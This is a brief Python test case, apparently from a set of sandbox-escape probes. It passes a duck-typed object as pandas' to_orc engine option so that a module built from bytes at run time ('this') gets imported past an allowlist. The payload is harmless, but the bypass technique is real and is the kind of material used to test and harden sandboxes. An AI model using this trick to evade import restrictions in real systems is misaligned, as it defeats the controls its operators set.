# source: pandas 1.5.3 pandas/io/orc.py to_orc (engine != "pyarrow" then import_optional_dependency(engine)) and importlib.import_module (name.startswith, name[level:]): duck typing
# family: object whose comparison the script controls, passed as a library option name that reaches an import (engine= keyword, __eq__ True + __hash__, no path, name built from bytes at run time)
# goal: imports the module `this` (prints the Zen of Python), a module outside the allowed list
import pandas as pd


class Engine:
    def __eq__(self, other):
        return True

    def __hash__(self):
        return 7

    def startswith(self, prefix):
        return False

    def __getitem__(self, key):
        return bytes([116, 104, 105, 115]).decode()


df = pd.DataFrame({"a": [1, 2]})
print(df.to_orc(engine=Engine()))
